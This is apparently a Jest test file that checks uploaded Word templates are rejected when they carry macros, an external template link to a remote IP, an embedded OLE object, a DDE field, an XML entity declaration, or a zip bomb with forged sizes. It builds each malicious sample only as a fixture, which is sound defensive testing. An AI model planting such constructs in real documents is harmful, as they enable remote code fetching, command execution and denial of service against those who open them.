import PizZip from 'pizzip';
import { shippedTemplate } from '../../src/documents/shipped-templates.js';
import { unsafeTemplate } from '../../src/documents/template-safety.js';
import { KINDS, OFFICE_KIND_IDS } from './document-scene.js';

const changed = (change: (zip: PizZip) => void): Buffer => {
  const zip = new PizZip(shippedTemplate('order'));
  change(zip);
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
};
const inDocument = (words: string) =>
  changed((zip) => {
    const xml = zip.file('word/document.xml')?.asText() ?? '';
    zip.file('word/document.xml', xml.replace('</w:body>', `${words}</w:body>`));
  });

describe('a Word file that somebody uploads as a template', () => {
  it.each([...KINDS, ...OFFICE_KIND_IDS])('is taken as it was shipped: %s', (kind) => {
    expect(unsafeTemplate(Buffer.from(shippedTemplate(kind)))).toBeUndefined();
  });

  it.each([
    ['something else', Buffer.from('%PDF-1.7')],
    ['a zip without a document', new PizZip().file('a.txt', 'a').generate({ type: 'nodebuffer' })],
    ['half a file', Buffer.from(shippedTemplate('order')).subarray(0, 4_000)],
  ])('is refused when it is %s', (_, file) => {
    expect(unsafeTemplate(file)).toMatchObject({ message: expect.stringContaining('不是 Word') });
  });

  it('is refused with macros, whatever it is called', () => {
    const byType = changed((zip) => {
      const types = zip.file('[Content_Types].xml')?.asText() ?? '';
      zip.file(
        '[Content_Types].xml',
        types.replace(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
      );
    });
    for (const file of [byType, changed((zip) => zip.file('word/vbaProject.bin', 'x'))]) {
      expect(unsafeTemplate(file)).toMatchObject({ message: expect.stringContaining('宏') });
    }
  });

  it('is refused when it fetches, embeds or runs something', () => {
    const external = changed((zip) =>
      zip.file(
        'word/_rels/settings.xml.rels',
        '<Relationships><Relationship Target="http://203.0.113.7/t.dotm" TargetMode="External"/></Relationships>',
      ),
    );
    expect(unsafeTemplate(external)).toMatchObject({ message: expect.stringContaining('外部') });
    const embedded = changed((zip) => zip.file('word/embeddings/oleObject1.bin', 'x'));
    expect(unsafeTemplate(embedded)).toMatchObject({ message: expect.stringContaining('嵌入') });
    // Word cuts an instruction into runs.
    const dde = inDocument(
      '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r></w:p>',
    );
    expect(unsafeTemplate(dde)).toMatchObject({ message: expect.stringContaining('域') });
    const entity = changed((zip) => zip.file('word/extra.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a/>'));
    expect(unsafeTemplate(entity)).toMatchObject({ message: expect.stringContaining('声明') });
  });

  it('is refused when it swells, also when it lies about its size', () => {
    const bomb = changed((zip) => zip.file('word/media/white.xml', '0'.repeat(40 * 1024 ** 2)));
    expect(bomb.length).toBeLessThan(2 * 1024 ** 2);
    expect(unsafeTemplate(bomb)).toMatchObject({ message: expect.stringContaining('解压后过大') });
    const lying = Buffer.from(bomb);
    for (let at = lying.indexOf('PK\u0001\u0002'); at !== -1; at = lying.indexOf('PK\u0001\u0002', at + 4)) {
      lying.writeUInt32LE(10, at + 24);
    }
    expect(unsafeTemplate(lying)).toMatchObject({ message: expect.stringContaining('解压后过大') });
    expect(unsafeTemplate(Buffer.alloc(3 * 1024 ** 2))).toMatchObject({
      message: expect.stringContaining('2 MB'),
    });
  });
});
